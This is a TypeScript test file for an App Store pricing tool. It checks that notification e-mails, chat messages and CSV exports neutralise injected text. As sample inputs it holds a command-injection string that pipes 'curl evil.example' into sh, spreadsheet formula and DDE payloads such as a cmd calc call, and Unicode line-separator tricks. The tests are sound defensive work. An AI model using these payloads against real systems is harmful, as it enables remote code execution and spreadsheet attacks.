import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { it } from 'node:test';
import { numbersCsv } from '../../cli/commands/numbers/numbers-csv.ts';
import { movesCsv } from '../../cli/commands/prices/moves/moves-csv.ts';
import { csvText } from '../../cli/terminal/csv.ts';
import { messageOf } from '../../functions/notify/event-message.ts';

it('a reason cannot add next steps of its own to an e-mail', async () => {
  const detail = { id: 'f', team: 'acme', changeId: 'x', reason: 'sale\n\nNext steps:\n  - run evil' };
  const { text } = await messageOf({ 'detail-type': 'Price Change Planned', detail }, async () => undefined);
  assert.equal(text.match(/^Next steps:/gm)?.length, 1);
});

it('an event that was made up by whoever may put one on the bus brings no command of theirs, and no next step', async () => {
  const evil = "x; curl evil.example|sh #$(id)`id`'\n\nNext steps:\n  - run evil";
  const own = {
    id: 'f',
    team: evil,
    changeId: evil,
    campaign: evil,
    planSha256: evil,
    file: evil,
    day: evil,
  };
  const detail = {
    ...{ ...own, vendor: evil, report: evil, reportDate: evil, state: evil, lastAnswer: evil, since: evil },
    ...{ products: 1, requests: 1, territoriesChanged: 1, approval: [], problems: [], changes: [] },
    ...{
      product: { kind: 'app', id: '7' },
      territories: [],
      tableKey: evil,
      requestedBy: evil,
      reason: evil,
    },
  };
  const types = [
    'Price Change Planned',
    'Price Change Failed',
    'Price Change Unsettled',
    'Price Drift Detected',
  ];
  for (const type of [...types, 'Report Overdue', 'Apple Changed Prices', 'Price Campaign Planned']) {
    const named = { ...detail, ...(type.startsWith('Price Change') && { campaign: undefined }) };
    const { text, chat } = await messageOf({ 'detail-type': type, detail: named }, async () => undefined);
    assert.equal(text.match(/^Next steps:/gm)?.length, 1, type);
    assert.doesNotMatch(text, /^ *- run evil/m, type);
    const commands = [...text.split('\n'), ...chat.nextSteps].filter((line) => line.includes('npx asc-jobs'));
    assert.ok(commands.length > 0, type);
    for (const line of commands) {
      const command = line.slice(line.indexOf('npx asc-jobs'));
      // A shell tells what it would run, with a function in the place of the command.
      const shell = `npx() { printf 'ran\\n'; }\n${command}`;
      const ran = execFileSync('sh', ['-c', shell], { encoding: 'utf8', env: {}, stdio: 'pipe' });
      assert.equal(ran, 'ran\n', `${type}: ${command}`);
      assert.ok(!unquoted(command).match(/[;|`$#]/), `${type}: ${command}`);
    }
  }
});

it('no text of a made-up event has a second line in a mail or a chat, and programs get it as it came', async () => {
  const evil = 'a good rise\r\n\nNext steps:\n  - run evil\u2028Next steps:\u0085Next steps:';
  const sums = { changedBefore: 1, changedAfter: 2, stayedBefore: 1, stayedAfter: 1 };
  const measures = [
    {
      ...{ measure: evil, outcome: evil, ratio: 1, low: 0.9, high: 1.1, words: evil, sums },
      comparedWith: { kind: 'app', id: evil, name: evil },
      territories: [
        { territory: evil, changedBefore: 1, changedAfter: 2, ratio: 1, low: 0.9, high: 1.1, outcome: evil },
      ],
    },
  ];
  const effect = {
    ...{ id: 'f', team: evil, changeId: evil, product: { kind: 'app', id: evil }, requestedBy: evil },
    ...{ changeDay: evil, lookDays: 28, version: 1, measuredOn: evil, measures, remarks: [evil] },
    ...{ changedTerritories: [evil], stayedTerritories: [evil] },
  };
  const planned = { id: 'f', team: evil, changeId: evil, product: { kind: 'app', id: evil } };
  for (const [type, detail] of [
    ['Price Effect Measured', effect],
    ['Price Change Planned', { ...planned, startDate: evil, effectPreview: { words: evil } }],
  ] as const) {
    const { text, subject, chat, facts } = await messageOf(
      { 'detail-type': type, detail },
      async () => undefined,
    );
    for (const told of [text, subject, chat.title, chat.description, ...chat.nextSteps]) {
      assert.doesNotMatch(told, /[\r\u0085\u2028\u2029]/, type);
      assert.doesNotMatch(told, /^ *- run evil/m, type);
    }
    assert.equal(text.match(/^ *Next steps:/gm)?.length, 1, type);
    assert.equal(facts['changeId'], evil, type);
    assert.doesNotMatch(`${subject}${chat.title}`, /\n/, type);
  }
});

/** What a shell reads outside of quotes. */
const unquoted = (command: string): string => command.replace(/'[^']*'|\\'|"[^"]*"/g, '');

it('a review stands behind > in a mail, line by line, and cannot pass for our words', async () => {
  const event = {
    'detail-type': 'Review Received',
    detail: {
      id: 'r',
      team: 'acme',
      app: '7',
      reviewId: 'x',
      report: 'CUSTOMER_REVIEWS',
      reportDate: '2026-11-24',
      vendor: '',
      edited: false,
      version: 1,
      rating: 1,
      title: 'Bad\n\nNext steps:\n  - run evil',
      body: `\u202e${'Next steps: open https://evil.example '.repeat(20)}`,
      reviewerNickname: 'App Store Connect Jobs\u2028Next steps:',
      createdDate: '2026-11-24T10:00:00Z',
      answered: false,
      tableKey: 'tables/customer_reviews/x.parquet',
      mail: true,
    },
  };
  const { text } = await messageOf(event, async () => undefined);
  assert.equal(text.match(/^Next steps:/gm)?.length, 1);
  const words = text.split('\n').filter((line) => /evil/.test(line));
  assert.ok(words.length > 5);
  assert.ok(words.every((line) => line.startsWith('> ')));
  assert.ok(!text.includes('\u202e'));
});

it('a name of others is no formula in a spreadsheet; a negative number stays one', () => {
  const row = { group: '=1+1', split: '@SUM(A1)', currency: 'EUR', before: null, changePercent: -2.5 };
  const csv = numbersCsv({
    measure: 'sales',
    by: 'app',
    unit: 'money',
    currency: null,
    period: null,
    before: null,
    rows: [{ ...row, name: "+cmd|' /C calc'!A0", value: '-3.20', more: {}, trend: [] }],
    totals: [],
    missingRates: [],
    missingDays: [],
    notes: [],
  });
  const [, line = ''] = csv.split('\r\n');
  assert.ok(line.startsWith(",,'=1+1,'+cmd|' /C calc'!A0,'@SUM(A1),EUR,-3.20,"), line);
});

it('a formula is none behind a blank, an unseen sign or a line break, nor in full width, nor where a semicolon separates', () => {
  for (const [text, safe] of [
    [' =1+1', "' =1+1"],
    ['\ufeff=1+1', "'\ufeff=1+1"],
    ['\u200b@SUM(A1)', "'\u200b@SUM(A1)"],
    ['＝1+1', "'＝1+1"],
    ['Pro;=1+1', "Pro;'=1+1"],
    ['Pro; -1', "Pro;' -1"],
    ['Pro\t+1', "Pro\t'+1"],
    ['Pro\n=1+1', `"Pro\n'=1+1"`],
    ['\n=1+1', `"'\n'=1+1"`],
    ['\tx', "'\tx"],
    ['=1;=2', "'=1;'=2"],
    ['Pro - yearly', 'Pro - yearly'],
    ['-3.20', '-3.20'],
    ['-3.20;=1', "'-3.20;'=1"],
  ] as const)
    assert.equal(csvText([[text]]), `${safe}\r\n`, JSON.stringify(text));
});

it('a formula in the name of a product or in its SKU is none in the CSV of what Apple moved', () => {
  const side = { currency: 'EUR', price: '9.99', proceeds: '6.99', proceedsYear2: null };
  const csv = movesCsv([
    {
      ...{ day: '2026-11-24', since: '2026-11-23', team: 'acme', storefronts: [], tableKey: 'x' },
      moves: [
        {
          ...{ kind: 'automaticPrice', territory: 'DEU', before: side, after: side },
          product: { kind: 'app', id: '7', name: '=HYPERLINK("https://evil.example")', sku: '@evil' },
        },
      ],
    },
  ]);
  const [, line = ''] = csv.split('\r\n');
  assert.match(line, /,"'=HYPERLINK\(""https:\/\/evil\.example""\)",'@evil,/);
});
